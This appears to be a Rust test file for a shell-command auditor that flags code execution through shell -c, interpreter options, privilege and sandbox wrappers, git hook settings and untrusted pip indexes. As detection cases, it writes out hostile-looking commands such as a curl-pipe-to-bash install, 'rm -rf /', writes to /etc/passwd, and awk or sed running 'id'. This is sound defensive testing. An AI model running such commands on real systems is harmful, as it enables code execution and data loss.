use super::lex::*;
use super::walk::*;
use super::words::*;
use crate::finding::Severity;

fn kinds(words: &[&str]) -> Vec<(usize, HitKind, String, Severity)> {
    analyze_words(words)
        .hits
        .into_iter()
        .map(|h| (h.index, h.kind, h.option, h.severity))
        .collect()
}

fn code_options(words: &[&str]) -> Vec<(usize, String)> {
    analyze_words(words)
        .hits
        .into_iter()
        .filter(|h| h.kind == HitKind::CodeOption)
        .map(|h| (h.index, h.option))
        .collect()
}

#[test]
fn tokenizer_splits_on_operators_and_respects_quotes() {
    let s = parse("pip install -r requirements.txt && python -m pytest tests/test_date.py");
    assert_eq!(s.commands.len(), 2);
    assert_eq!(
        s.commands[0].words,
        ["pip", "install", "-r", "requirements.txt"]
    );
    assert_eq!(
        s.commands[1].words,
        ["python", "-m", "pytest", "tests/test_date.py"]
    );
    assert_eq!(s.operators(), ["&&"]);

    let s = parse(r#"echo 'a && b' "c;d" e\;f"#);
    assert_eq!(s.commands.len(), 1);
    assert_eq!(s.commands[0].words, ["echo", "a && b", "c;d", "e;f"]);
    assert!(s.operators().is_empty());
}

#[test]
fn tokenizer_drops_redirection_targets_and_keeps_pipes() {
    let s = parse("FOO=1 cat x 2>/dev/null | sh > out.txt");
    assert_eq!(s.commands[0].assignments, ["FOO=1"]);
    assert_eq!(s.commands[0].words, ["cat", "x"]);
    assert_eq!(s.commands[1].words, ["sh"]);
    assert!(s.commands[1].piped && !s.commands[0].piped);
    assert_eq!(s.operators(), ["|", ">"]);
}

#[test]
fn tokenizer_finds_substitutions_and_compound_commands() {
    let s = parse(
        "if test -f x; then echo \"$(python -c 'print(1)')\"; fi\nfor f in a b; do `id`; done",
    );
    assert!(s.substitutions.iter().any(|b| b == "python -c 'print(1)'"));
    assert!(s.substitutions.iter().any(|b| b == "id"));
    assert_eq!(s.commands[0].words, ["test", "-f", "x"]);
    assert!(s.operators().contains(&"newline"));
    assert!(!s.commands.iter().any(|c| c
        .words
        .first()
        .is_some_and(|w| w == "for" || w == "if" || w == "f")));
    assert!(parse("echo 'open").unterminated);
    assert!(parse("echo $((1+2))").substitutions.is_empty());
}

/// A backquoted command stays in its word as written; the command it runs
/// loses a backslash only before `$`, a backquote or a backslash (POSIX).
#[test]
fn tokenizer_reads_backquotes_and_process_substitution() {
    let s = parse(r"echo `echo '\a' \\$x \$y \`id\``");
    assert_eq!(s.commands[0].words[1], r"`echo '\a' \\$x \$y \`id\``");
    assert_eq!(s.substitutions, [r"echo '\a' \$x $y `id`"]);
    let t = tokens("a <(b) \"$(c)\" '$d' $");
    let expands: Vec<bool> = t.tokens.iter().map(|t| t.expands).collect();
    assert_eq!(expands, [false, true, true, false, true]);
    let subs = |i: usize| {
        t.tokens[i]
            .substitutions
            .as_deref()
            .unwrap_or_default()
            .to_vec()
    };
    assert_eq!(subs(1), [("<(", "b".to_string())]);
    assert!(!t.tokens[4].parameter && subs(2).len() == 1);
    assert_eq!(tokens("a ${b").unterminated, Some(("${", 2)));
}

#[test]
fn metacharacters_by_kind() {
    use Meta::*;
    let m = |s: &str| metacharacters(s).into_iter().collect::<Vec<_>>();
    assert_eq!(m("tests/test_date.py"), []);
    assert_eq!(m("$(id)"), [Substitution]);
    assert_eq!(m("`id`"), [Substitution]);
    assert_eq!(m("a; rm -rf /"), [Chaining]);
    assert_eq!(m("a && b"), [Chaining]);
    assert_eq!(m("x | sh"), [Pipe]);
    assert_eq!(m("foo|bar"), [InnerBar]);
    assert_eq!(m("> /etc/passwd"), [Redirection]);
    assert_eq!(m("2>&1"), [Redirection]);
    assert_eq!(m("a\nb"), [Newline]);
    assert_eq!(m("$HOME/x"), [Expansion]);
    assert_eq!(m("${HOME}"), [Expansion]);
    assert_eq!(m("%USERPROFILE%\\x"), [Expansion]);
    assert_eq!(m("~/x"), [Expansion]);
    assert_eq!(m("tests/*.py"), [Glob]);
    // Not shell syntax in context: versions, URL queries, a trailing `$`.
    assert_eq!(m("requests>=2,<3"), []);
    assert_eq!(m("https://x.example/?a=1&b=2"), []);
    assert_eq!(m("^abc$"), []);
    assert_eq!(m("50%"), []);
    assert!(Substitution.runs_commands() && !Glob.runs_commands() && !InnerBar.runs_commands());
}

#[test]
fn program_names_and_paths() {
    assert_eq!(program_name("/usr/bin/Python3.12"), "python3.12");
    assert_eq!(stem("python3.12"), "python");
    assert_eq!(program_name("C:\\Windows\\System32\\CMD.EXE"), "cmd");
    assert_eq!(program_name("run.BAT. "), "run.bat");
    assert!(is_batch(&program_name("tests\\RUN.Cmd")));
    assert!(
        is_relative_path("./run_tests.sh")
            && is_relative_path("scripts/x")
            && is_relative_path("..\\x.bat")
    );
    assert!(
        !is_relative_path("/usr/bin/python")
            && !is_relative_path("python")
            && !is_relative_path("C:\\x\\y.exe")
    );
}

#[test]
fn lesson_form_is_clean() {
    assert_eq!(kinds(&["python", "-m", "pytest", "tests/test_date.py"]), []);
    assert_eq!(
        kinds(&["pip", "install", "--no-deps", "-r", "requirements.lock"]),
        []
    );
    assert_eq!(
        kinds(&["python", "-m", "pytest", "-p", "no:cacheprovider", "-q"]),
        []
    );
    assert_eq!(
        analyze_script("pip install -r requirements.txt && python -m pytest tests/test_date.py")
            .hits,
        []
    );
}

#[test]
fn shells_running_text() {
    let a = analyze_words(&["bash", "-euxc", "python -c 'import os' && true"]);
    assert_eq!(a.hits[0].kind, HitKind::ShellRunsText);
    assert_eq!(a.hits[0].index, 1);
    // The text is walked too: its `python -c` sits in word 2.
    assert!(a
        .hits
        .iter()
        .any(|h| h.kind == HitKind::CodeOption && h.index == 2 && h.option == "-c"));
    assert!(a.payloads.contains(&2));
    assert_eq!(kinds(&["bash", "-o", "pipefail", "script.sh", "-c"]), []);
    assert_eq!(kinds(&["sh", "run.sh"]), []);
    assert_eq!(kinds(&["/bin/sh", "-s"])[0].1, HitKind::ShellRunsText);
    assert_eq!(
        kinds(&["cmd.exe", "/d", "/C", "run.bat", "x"])
            .iter()
            .map(|h| h.1)
            .collect::<Vec<_>>(),
        [HitKind::ShellRunsText, HitKind::BatchFile]
    );
    assert_eq!(
        kinds(&[
            "pwsh",
            "-NoProfile",
            "-ExecutionPolicy",
            "Bypass",
            "-Com",
            "Get-Item x"
        ])[0]
            .0,
        4
    );
    assert_eq!(
        kinds(&["powershell", "-enc", "ZQBjAGgAbwA="])[0].1,
        HitKind::ShellRunsText
    );
    assert_eq!(
        kinds(&["powershell", "Get-Process"])[0].1,
        HitKind::ShellRunsText
    );
    assert_eq!(kinds(&["pwsh", "-File", "t.ps1"]), []);
    assert_eq!(
        kinds(&["fish", "--command=ls"])[0].1,
        HitKind::ShellRunsText
    );
}

#[test]
fn wrappers_are_seen_through() {
    assert_eq!(kinds(&["env", "-i", "LANG=C", "bash", "-c", "x"])[0].0, 4);
    assert_eq!(kinds(&["busybox", "sh", "-c", "x"])[0].0, 2);
    assert_eq!(
        kinds(&["timeout", "-k", "5", "300", "sh", "-c", "x"])[0].0,
        5
    );
    assert_eq!(kinds(&["nice", "-n", "10", "python", "-c", "1"])[0].0, 4);
    assert_eq!(
        code_options(&["env", "-S", "python -c 1"]),
        [(1, "-S".to_string()), (2, "-c".to_string())]
    );
    assert_eq!(
        code_options(&["env", "NODE_OPTIONS=--require=/tmp/x.js", "node", "t.js"]),
        [(1, "NODE_OPTIONS".to_string())]
    );
    let x = kinds(&["xargs", "-n", "1", "sh", "-c", "echo"]);
    assert_eq!((x[0].0, x[0].1), (0, HitKind::CodeOption));
    assert_eq!((x[1].0, x[1].1), (4, HitKind::ShellRunsText));
}

#[test]
fn interpreter_code_options() {
    assert_eq!(
        code_options(&["python3", "-c", "print(1)"]),
        [(1, "-c".to_string())]
    );
    assert_eq!(
        code_options(&["python", "-Ic", "print(1)"]),
        [(1, "-c".to_string())]
    );
    assert_eq!(
        code_options(&["python", "-W", "ignore", "-"]),
        [(3, "-".to_string())]
    );
    assert_eq!(code_options(&["python", "script.py", "-c", "x"]), []);
    assert_eq!(
        code_options(&["python", "-m", "pytest", "-p", "evil"]),
        [(3, "-p".to_string())]
    );
    assert_eq!(code_options(&["pytest", "-pevil"]), [(1, "-p".to_string())]);
    assert_eq!(
        code_options(&["pytest", "-o", "addopts=-p x", "-o", "cache_dir=/tmp"]),
        [(1, "-o".to_string())]
    );
    assert_eq!(
        code_options(&["node", "--require=./x.js", "t.js"]),
        [(1, "--require".to_string())]
    );
    assert_eq!(code_options(&["node", "-e", "1"]), [(1, "-e".to_string())]);
    assert_eq!(code_options(&["node", "t.js", "-e"]), []);
    assert_eq!(
        code_options(&["deno", "eval", "1"]),
        [(1, "eval".to_string())]
    );
    assert_eq!(
        code_options(&["perl", "-lne", "print"]),
        [(1, "-e".to_string())]
    );
    assert_eq!(code_options(&["perl", "-I", "lib", "t.pl"]), []);
    assert_eq!(
        code_options(&["ruby", "-rjson", "t.rb"]),
        [(1, "-r".to_string())]
    );
    assert_eq!(
        code_options(&["php", "-r", "echo 1;"]),
        [(1, "-r".to_string())]
    );
    assert_eq!(
        code_options(&["Rscript", "-e", "1"]),
        [(1, "-e".to_string())]
    );
}

#[test]
fn tool_code_options() {
    let g = analyze_words(&["git", "-c", "core.sshCommand=evil", "fetch"]);
    assert_eq!(g.hits[0].detail.as_deref(), Some("core.sshcommand"));
    assert_eq!(
        code_options(&["git", "clone", "--upload-pack=x", "u"]),
        [(2, "--upload-pack".to_string())]
    );
    assert_eq!(
        code_options(&["git", "clone", "-u", "x", "u"]),
        [(2, "-u".to_string())]
    );
    assert_eq!(code_options(&["git", "add", "-u"]), []);
    assert_eq!(
        code_options(&["git", "submodule", "foreach", "x"]),
        [(2, "foreach".to_string())]
    );
    assert_eq!(code_options(&["git", "status"]), []);
    assert_eq!(code_options(&["npx", "cowsay"]), [(0, String::new())]);
    assert_eq!(
        code_options(&["npm", "exec", "x"]),
        [(1, "exec".to_string())]
    );
    assert_eq!(code_options(&["npm", "test"]), []);
    assert_eq!(code_options(&["npm", "init"]), []);
    assert_eq!(
        code_options(&["make", "SHELL=/tmp/x", "test"]),
        [(1, "SHELL=".to_string())]
    );
    assert_eq!(
        code_options(&["find", ".", "-name", "*.pyc", "-exec", "rm", "{}", ";"]),
        [(4, "-exec".to_string())]
    );
    assert_eq!(
        code_options(&["tar", "--to-command=sh", "-xf", "a.tar"]),
        [(1, "--to-command".to_string())]
    );
    assert_eq!(
        code_options(&["tar", "--checkpoint=1", "--checkpoint-action=exec=sh x"]),
        [(2, "--checkpoint-action".to_string())]
    );
    assert_eq!(
        code_options(&["rsync", "-avze", "ssh", "a", "b"]),
        [(1, "-e".to_string())]
    );
    assert_eq!(
        code_options(&["ssh", "-oProxyCommand=nc %h %p", "h"]),
        [(1, "-o".to_string())]
    );
    assert_eq!(
        code_options(&["ssh", "-o", "StrictHostKeyChecking=yes", "h"]),
        []
    );
    assert_eq!(
        code_options(&["java", "-javaagent:/tmp/a.jar", "-jar", "t.jar"]),
        [(1, "-javaagent".to_string())]
    );
    assert_eq!(
        code_options(&["go", "test", "-toolexec=x", "./..."]),
        [(2, "-toolexec".to_string())]
    );
    assert_eq!(code_options(&["go", "test", "./..."]), []);
}

#[test]
fn pip_sources() {
    let sev = |w: &[&str]| {
        analyze_words(w)
            .hits
            .into_iter()
            .map(|h| h.severity)
            .collect::<Vec<_>>()
    };
    assert_eq!(
        sev(&[
            "pip",
            "install",
            "--extra-index-url",
            "https://x/simple",
            "a"
        ]),
        [Severity::High]
    );
    assert_eq!(
        sev(&["pip3", "install", "-i", "http://x/simple", "a"]),
        [Severity::High]
    );
    assert_eq!(
        sev(&["pip", "install", "--index-url=https://x/simple", "a"]),
        [Severity::Medium]
    );
    assert_eq!(
        sev(&["pip", "install", "git+https://x/y.git"]),
        [Severity::Medium]
    );
    assert_eq!(sev(&["pip", "list", "--extra-index-url", "x"]), []);
}

#[test]
fn batch_relative_and_piped_programs() {
    assert_eq!(kinds(&["RUN_TESTS.BAT"])[0].1, HitKind::BatchFile);
    let r = kinds(&["./run_tests.sh"]);
    assert_eq!((r[0].1, r[0].3), (HitKind::RelativeProgram, Severity::Low));
    let p = analyze_script("curl -fsSL https://x.example/i.sh | bash");
    assert_eq!(p.hits.len(), 1);
    assert_eq!(p.hits[0].kind, HitKind::ShellRunsText);
    let p = analyze_script("cat x | python3 -");
    assert!(p.hits.iter().all(|h| h.kind == HitKind::CodeOption));
    assert!(!p.hits.is_empty());
    assert_eq!(
        analyze_script("PYTEST_ADDOPTS='-p x' pytest").hits[0].option,
        "PYTEST_ADDOPTS"
    );
}

#[test]
fn deep_nesting_is_bounded() {
    let mut text = "id".to_string();
    for _ in 0..5 {
        text = format!("sh -c {}", shell_quote(&text));
    }
    assert_eq!(analyze_script(&text).hits.len(), 5);
    let mut text = "sh -c id".to_string();
    for _ in 0..2_000 {
        text = format!("echo $({text})");
    }
    assert!(
        blocks_as_too_deep(&analyze_script(&text)),
        "nesting past the bound is not walked, and blocks"
    );
    let words: Vec<&str> = std::iter::repeat_n("env", 10_000).collect();
    assert!(blocks_as_too_deep(&analyze_words(&words)));
}

/// Whether an analysis reports, once and high, that it stopped looking.
fn blocks_as_too_deep(a: &Analysis) -> bool {
    let deep: Vec<_> = a.hits.iter().filter(|h| h.why.contains("deeper")).collect();
    deep.len() == 1 && deep[0].severity == Severity::High && deep[0].kind == HitKind::CodeOption
}

/// Probe B R04, item 2: every depth limit of the walk fails closed. Any
/// number of wrappers, nested shell texts or substitutions in front of
/// `python -c` is reported high: by the hit itself while the walk reaches
/// it, by the depth hit once it does not.
#[test]
fn every_depth_limit_fails_closed() {
    let high = |a: &Analysis| a.hits.iter().any(|h| h.severity == Severity::High);
    for n in 0..40 {
        // Wrappers (`env`, and wrappers of the table) in front of the code.
        for wrapper in [&["env"][..], &["nice"], &["timeout", "5"], &["tini", "--"]] {
            let mut words: Vec<&str> = Vec::new();
            for _ in 0..n {
                words.extend_from_slice(wrapper);
            }
            words.extend_from_slice(&["python", "-c", "import payload"]);
            assert!(high(&analyze_words(&words)), "{n} x {wrapper:?}");
        }
    }
    // Shell text inside shell text (its quoting doubles each level), and
    // command substitutions.
    for n in 0..16 {
        let mut text = "python -c 'import payload'".to_string();
        let mut subst = text.clone();
        for _ in 0..n {
            text = format!("sh -c {}", shell_quote(&text));
            subst = format!("echo $({subst})");
        }
        assert!(high(&analyze_script(&text)), "{n} x sh -c");
        assert!(
            analyze_script(&subst)
                .hits
                .iter()
                .any(|h| h.severity == Severity::High),
            "{n} x $(..)"
        );
    }
    // Past the bound, the one blocking hit says why.
    let words: Vec<&str> = std::iter::repeat_n("env", 12)
        .chain(["python", "-c", "1"])
        .collect();
    assert!(blocks_as_too_deep(&analyze_words(&words)));
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// issue 23 item 6: git told to trust any repository or to run planted
/// hooks, on its command line or written into its configuration.
#[test]
fn git_trust_and_hook_settings() {
    let why = |words: &[&str]| -> Vec<(usize, String, Option<String>)> {
        analyze_words(words)
            .hits
            .into_iter()
            .map(|h| (h.index, h.why.to_string(), h.detail))
            .collect()
    };
    for (words, key) in [
        (
            &["git", "-c", "safe.directory=*", "status"][..],
            "safe.directory",
        ),
        (
            &["git", "-c", "core.hooksPath=/scratch/hooks", "commit"][..],
            "core.hookspath",
        ),
        (
            &["git", "-c", "core.fsmonitor=./x", "status"][..],
            "core.fsmonitor",
        ),
        (
            &["git", "config", "--global", "safe.directory", "*"][..],
            "safe.directory",
        ),
        (
            &["git", "config", "core.hooksPath", ".githooks"][..],
            "core.hookspath",
        ),
    ] {
        let hits = why(words);
        assert_eq!(hits.len(), 1, "{words:?}");
        assert_eq!(hits[0].2.as_deref(), Some(key), "{words:?}");
        assert!(
            !hits[0].1.contains("aliases"),
            "{words:?}: a reason of its own"
        );
    }
    assert_eq!(
        why(&["git", "config", "--global", "safe.directory", "*"])[0].0,
        3
    );
    // Reading or removing the setting, and harmless keys, are not reported.
    for words in [
        &["git", "config", "--get", "core.hooksPath"][..],
        &["git", "config", "--unset", "core.hooksPath"][..],
        &["git", "config", "user.name", "ci"][..],
        &["git", "status"][..],
    ] {
        assert!(why(words).is_empty(), "{words:?}");
    }
    let text = analyze_script("git config --global --add safe.directory '*' && git status");
    assert_eq!(text.hits.len(), 1);
}

/// Probe B, item 1: every wrapper the table knows is seen through, its
/// options, subcommand words and leading operands skipped; shell text given
/// to a wrapper (`script -c`, `watch`, `flock FILE -c`, `su -c`) is walked as
/// shell text; a wrapper option the table does not know, or a wrapper that
/// starts a bare shell, blocks instead of passing.
#[test]
fn wrapper_table_finds_what_runs() {
    use HitKind::{CodeOption as Code, ShellRunsText as Shell};
    // (command line, a high hit of this kind is expected; `None`: no hit).
    let rows: &[(&[&str], Option<HitKind>)] = &[
        // The probe's reproducers.
        (&["tini", "--", "bash", "-c", "id"], Some(Shell)),
        (&["uv", "run", "python", "-c", "import payload"], Some(Code)),
        // Init and privilege wrappers.
        (
            &["tini", "-s", "-p", "SIGTERM", "--", "sh", "-c", "x"],
            Some(Shell),
        ),
        (&["tini", "-vvv", "python", "-c", "1"], Some(Code)),
        (
            &["dumb-init", "--rewrite", "15:2", "bash", "-c", "x"],
            Some(Shell),
        ),
        (&["dumb-init", "-c", "sh", "-c", "x"], Some(Shell)),
        (&["gosu", "nobody", "sh", "-c", "x"], Some(Shell)),
        (
            &["su-exec", "nobody:nogroup", "python", "-c", "1"],
            Some(Code),
        ),
        (
            &[
                "setpriv",
                "--reuid",
                "1000",
                "--regid=1000",
                "--init-groups",
                "bash",
                "-c",
                "x",
            ],
            Some(Shell),
        ),
        (
            &["runuser", "-u", "nobody", "--", "bash", "-c", "x"],
            Some(Shell),
        ),
        (&["runuser", "nobody", "-c", "id"], Some(Shell)),
        (&["su", "-c", "id", "nobody"], Some(Shell)),
        (&["su", "-", "nobody", "-c", "id"], Some(Shell)),
        (&["su", "nobody"], Some(Shell)),
        (&["sudo", "-Eu", "ci", "sh", "-c", "x"], Some(Shell)),
        (
            &["sudo", "--user=ci", "-H", "python", "-c", "1"],
            Some(Code),
        ),
        (&["doas", "-u", "root", "sh", "-c", "x"], Some(Shell)),
        (&["sg", "ci", "id"], Some(Shell)),
        (&["sg", "ci", "-c", "python -c 1"], Some(Code)),
        (&["newgrp", "ci"], Some(Shell)),
        // Scheduling, tracing and resource wrappers.
        (&["taskset", "0x3", "sh", "-c", "x"], Some(Shell)),
        (&["taskset", "-c", "0,1", "python", "-c", "1"], Some(Code)),
        (&["chrt", "-f", "10", "sh", "-c", "x"], Some(Shell)),
        (&["chrt", "--rr", "5", "bash", "-c", "x"], Some(Shell)),
        (&["nice", "-5", "sh", "-c", "x"], Some(Shell)),
        (&["nice", "--adjustment=5", "python", "-c", "1"], Some(Code)),
        (&["time", "-p", "sh", "-c", "x"], Some(Shell)),
        (
            &["strace", "-f", "-o", "/tmp/t", "sh", "-c", "x"],
            Some(Shell),
        ),
        (
            &["ltrace", "-f", "-s", "100", "bash", "-c", "x"],
            Some(Shell),
        ),
        (
            &["valgrind", "--tool=memcheck", "-q", "sh", "-c", "x"],
            Some(Shell),
        ),
        (
            &["xvfb-run", "-a", "-s", "-screen 0 1x1x8", "bash", "-c", "x"],
            Some(Shell),
        ),
        (&["flock", "/tmp/l", "sh", "-c", "x"], Some(Shell)),
        (&["flock", "-w", "10", "/tmp/l", "-c", "id"], Some(Shell)),
        (
            &["flock", "-x", "/tmp/l", "--command", "python -c 1"],
            Some(Code),
        ),
        (
            &["prlimit", "--nofile=1024:2048", "sh", "-c", "x"],
            Some(Shell),
        ),
        (
            &["caffeinate", "-i", "-t", "60", "sh", "-c", "x"],
            Some(Shell),
        ),
        (&["catchsegv", "python", "-c", "1"], Some(Code)),
        (
            &["faketime", "2020-01-01 00:00:00", "sh", "-c", "x"],
            Some(Shell),
        ),
        (
            &["proxychains4", "-q", "-f", "/etc/p.conf", "sh", "-c", "x"],
            Some(Shell),
        ),
        (&["torsocks", "-i", "python", "-c", "1"], Some(Code)),
        (&["busybox", "sh", "-c", "x"], Some(Shell)),
        (&["toybox", "sh", "-c", "x"], Some(Shell)),
        (
            &[
                "nohup", "setsid", "-f", "stdbuf", "-oL", "ionice", "-c", "3", "timeout", "10",
                "sh", "-c", "x",
            ],
            Some(Shell),
        ),
        // Sandboxes and namespaces.
        (
            &["firejail", "--quiet", "--net=none", "sh", "-c", "x"],
            Some(Shell),
        ),
        (
            &[
                "systemd-run",
                "--user",
                "--wait",
                "-p",
                "MemoryMax=1G",
                "sh",
                "-c",
                "x",
            ],
            Some(Shell),
        ),
        (&["chroot", "/srv", "sh", "-c", "x"], Some(Shell)),
        (
            &["chroot", "--userspec=1:1", "/srv", "python", "-c", "1"],
            Some(Code),
        ),
        (&["chroot", "/srv"], Some(Shell)),
        (&["unshare", "-r", "-n", "sh", "-c", "x"], Some(Shell)),
        (
            &[
                "unshare",
                "--map-root-user",
                "--net",
                "--mount-proc",
                "python",
                "-c",
                "1",
            ],
            Some(Code),
        ),
        (&["unshare", "-n"], Some(Shell)),
        (
            &["nsenter", "-t", "1", "-m", "-u", "-n", "sh", "-c", "x"],
            Some(Shell),
        ),
        (&["ip", "netns", "exec", "ci", "sh", "-c", "x"], Some(Shell)),
        // Text wrappers.
        (&["script", "-q", "-c", "id", "/dev/null"], Some(Shell)),
        (&["script", "--command=python -c 1"], Some(Code)),
        (&["script", "-q", "/dev/null"], Some(Shell)),
        (&["watch", "-n", "1", "id"], Some(Shell)),
        (&["watch", "-n", "1", "python", "-c", "1"], Some(Code)),
        (
            &["parallel", "-j", "2", "sh", "-c", "x", ":::", "a"],
            Some(Shell),
        ),
        // Project runners.
        (
            &["uv", "run", "--with", "requests", "sh", "-c", "x"],
            Some(Shell),
        ),
        (&["poetry", "run", "bash", "-c", "x"], Some(Shell)),
        (&["pipenv", "run", "python", "-c", "1"], Some(Code)),
        (&["pdm", "run", "sh", "-c", "x"], Some(Shell)),
        (
            &["hatch", "-e", "test", "run", "sh", "-c", "x"],
            Some(Shell),
        ),
        (
            &[
                "conda",
                "run",
                "-n",
                "ci",
                "--no-capture-output",
                "bash",
                "-c",
                "x",
            ],
            Some(Shell),
        ),
        (
            &["micromamba", "run", "-n", "ci", "python", "-c", "1"],
            Some(Code),
        ),
        (
            &["tox", "exec", "-e", "py", "--", "bash", "-c", "x"],
            Some(Shell),
        ),
        (&["tox", "-e", "py", "--", "python", "-c", "1"], Some(Code)),
        // Fail closed: an option the table cannot read, or one that makes
        // the wrapper run something the audit does not see.
        (&["tini", "--frobnicate", "python", "t.py"], Some(Code)),
        (&["timeout", "--weird", "5", "python", "t.py"], Some(Code)),
        (&["systemd-run", "--shell"], Some(Code)),
        (&["torsocks", "--shell"], Some(Code)),
        (
            &[
                "faketime",
                "--date-prog",
                "/x",
                "2020-01-01",
                "python",
                "t.py",
            ],
            Some(Code),
        ),
        (
            &["uv", "run", "--not-an-option", "python", "t.py"],
            Some(Code),
        ),
        // Benign twins: nothing to report.
        (&["tini", "--", "python", "-m", "pytest"], None),
        (&["timeout", "300", "python", "-m", "pytest", "tests"], None),
        (
            &[
                "timeout",
                "--preserve-status",
                "-s",
                "KILL",
                "300",
                "python",
                "t.py",
            ],
            None,
        ),
        (&["uv", "pip", "install", "-r", "r.txt"], None),
        (&["uv", "run", "pytest"], None),
        (&["poetry", "install"], None),
        (&["ip", "addr"], None),
        (&["flock", "/tmp/l", "python", "-m", "pytest"], None),
        (
            &["conda", "run", "-n", "ci", "python", "-m", "pytest"],
            None,
        ),
        (&["taskset", "-c", "0", "python", "-m", "pytest"], None),
        (&["sudo", "-u", "ci", "python", "-m", "pytest"], None),
        (&["nice", "-n", "10", "python", "t.py"], None),
        (&["chrt", "-o", "0", "python", "t.py"], None),
        (&["gosu", "ci", "python", "-m", "pytest"], None),
    ];
    let mut wrong = Vec::new();
    for (words, want) in rows {
        let hits = analyze_words(words).hits;
        let ok = match want {
            Some(k) => hits
                .iter()
                .any(|h| h.kind == *k && h.severity == Severity::High),
            None => hits.is_empty(),
        };
        if !ok {
            wrong.push(format!("{words:?}: want {want:?}, got {hits:?}"));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} rows wrong:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

/// Probe B R18, item 4: interpreters and tools whose options or program
/// text run code, each with a benign twin.
#[test]
fn code_running_options_table() {
    let rows: &[(&[&str], bool)] = &[
        (&["awk", "BEGIN{system(\"id\")}"], true),
        (&["gawk", "-F:", "{ print | \"sh\" }", "/etc/passwd"], true),
        (&["awk", "-v", "x=1", "BEGIN{\"id\" | getline v}"], true),
        (&["mawk", "-e", "BEGIN{system(\"id\")}"], true),
        (&["gawk", "-l", "filefuncs", "{print}"], true),
        (&["awk", "{print $1}", "f.txt"], false),
        (&["awk", "-F", ",", "{print $2}"], false),
        (&["sed", "-e", "1e id", "f"], true),
        (&["sed", "1e id", "f"], true),
        (&["sed", "-n", "s/x/id/e", "f"], true),
        (&["sed", "--expression=$e id", "f"], true),
        (&["sed", "-e", "s/a/b/g", "f"], false),
        (&["sed", "-i", "s/version/v/", "f"], false),
        (&["gdb", "-batch", "-ex", "shell id", "./a.out"], true),
        (&["gdb", "--eval-command=shell id"], true),
        (&["gdb", "-x", "cmds.gdb", "./a.out"], true),
        (&["gdb", "./a.out"], false),
        (&["vim", "-c", "!id", "f"], true),
        (&["nvim", "--cmd", "lua os.execute('id')"], true),
        (&["vi", "+!id", "f"], true),
        (&["vim", "+10", "f"], false),
        (&["vim", "f"], false),
        (&["gradle", "--init-script", "x.gradle", "build"], true),
        (&["./gradlew", "build", "-I", "x.gradle"], true),
        (&["gradle", "build"], false),
        (&["osascript", "-e", "do shell script \"id\""], true),
        (&["osascript", "t.scpt"], false),
        (&["expect", "-c", "spawn sh"], true),
        (&["expect", "t.exp"], false),
        (&["bash", "--rcfile", "/tmp/x", "-i"], true),
        (&["bash", "--init-file", "/tmp/x"], true),
        (&["bash", "--norc", "t.sh"], false),
        (&["perl", "-e", "1"], true),
        (&["ruby", "-e", "1"], true),
        (&["php", "-r", "1;"], true),
        (&["lua", "-e", "x=1"], true),
        (&["Rscript", "-e", "1"], true),
        (&["deno", "eval", "1"], true),
        (&["bun", "-e", "1"], true),
        (&["perl", "t.pl"], false),
    ];
    let mut wrong = Vec::new();
    for (words, runs) in rows {
        let hits = analyze_words(words).hits;
        let got = hits
            .iter()
            .any(|h| h.kind == HitKind::CodeOption && h.severity == Severity::High);
        if got != *runs {
            wrong.push(format!("{words:?}: want {runs}, got {hits:?}"));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} rows wrong:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}
